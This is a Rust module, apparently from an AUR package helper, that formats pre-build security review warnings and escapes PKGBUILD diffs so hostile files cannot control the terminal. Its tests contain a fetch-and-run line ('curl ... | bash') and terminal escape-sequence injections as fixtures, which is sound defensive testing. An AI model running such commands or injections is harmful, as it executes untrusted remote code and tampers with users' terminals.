//! The review of an AUR package before it is built: the warnings omg computed (each with
//! the file and line it comes from) and what changed since the last review.

use omg_ports::{ReviewSeverity, ReviewWarning};

use super::escape::{escape, escape_lines};
use super::{Output, Style};

/// `:: <base> <version>: N warnings (M high)`, then one entry per warning: severity, code,
/// where (`PKGBUILD:14`), what it means, and the evidence indented below. Text from the
/// package (evidence, file names) is escaped.
pub fn review_warnings(
    out: &Output,
    base: &str,
    version: &str,
    warnings: &[ReviewWarning],
) -> String {
    let high = warnings
        .iter()
        .filter(|w| w.severity == ReviewSeverity::High)
        .count();
    let mut s = format!(
        ":: {} {}: {}",
        escape(base),
        escape(version),
        match (warnings.len(), high) {
            (0, _) => "no warnings".to_string(),
            (1, 0) => "1 warning".to_string(),
            (n, 0) => format!("{n} warnings"),
            (n, h) => format!("{n} warning{} ({h} high)", if n == 1 { "" } else { "s" }),
        }
    );
    s.push('\n');
    for w in warnings {
        let style = match w.severity {
            ReviewSeverity::High => Style::Red,
            ReviewSeverity::Medium => Style::Yellow,
            ReviewSeverity::Low => Style::Dim,
        };
        let place = match (&w.file, w.line) {
            (Some(f), Some(l)) => format!(" {}:{l}", escape(f)),
            (Some(f), None) => format!(" {}", escape(f)),
            _ => String::new(),
        };
        s.push_str(&format!(
            "  {} {}{}: {}\n",
            out.paint(style, &format!("{:<6}", w.severity.as_str())),
            escape(&w.code),
            place,
            escape(&w.message)
        ));
        if !w.evidence.is_empty() {
            s.push_str(&format!("         {}\n", escape(&w.evidence)));
        }
    }
    s
}

/// A diff as git printed it, tabs as four spaces and every other control character escaped (a diff of hostile
/// files must not drive the terminal), `+`/`-` lines coloured on a terminal.
pub fn review_diff(out: &Output, diff: &str) -> String {
    let mut s = String::with_capacity(diff.len() + 64);
    // PKGBUILDs are indented with tabs: shown as spaces, not escaped.
    let diff = diff.replace('\t', "    ");
    for line in escape_lines(&diff).lines() {
        let painted = if line.starts_with("+++") || line.starts_with("---") {
            out.paint(Style::Bold, line)
        } else if line.starts_with('+') {
            out.paint(Style::Green, line)
        } else if line.starts_with('-') {
            out.paint(Style::Red, line)
        } else {
            line.to_string()
        };
        s.push_str(&painted);
        s.push('\n');
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn warnings_name_where_they_come_from_and_escape_it() {
        let w = ReviewWarning {
            severity: ReviewSeverity::High,
            code: "fetch-and-run".into(),
            message: "build() downloads code and runs it".into(),
            file: Some("PKGBUILD".into()),
            line: Some(14),
            evidence: "curl -fsSL https://x/y.sh | bash\u{1b}[2J".into(),
        };
        let text = review_warnings(&Output::default(), "evil", "2.0-1", &[w]);
        assert_eq!(
            text,
            ":: evil 2.0-1: 1 warning (1 high)\n  \
             high   fetch-and-run PKGBUILD:14: build() downloads code and runs it\n         \
             curl -fsSL https://x/y.sh | bash\\e[2J\n"
        );
        assert_eq!(
            review_warnings(&Output::default(), "ok", "1-1", &[]),
            ":: ok 1-1: no warnings\n"
        );
    }

    #[test]
    fn a_diff_is_escaped() {
        let diff = "+++ b/PKGBUILD\n+echo \u{1b}]0;pwned\u{7}\n context\n";
        let text = review_diff(&Output::default(), diff);
        assert!(!text.contains('\u{1b}'), "{text:?}");
        assert!(text.starts_with("+++ b/PKGBUILD\n"), "{text:?}");
    }
}
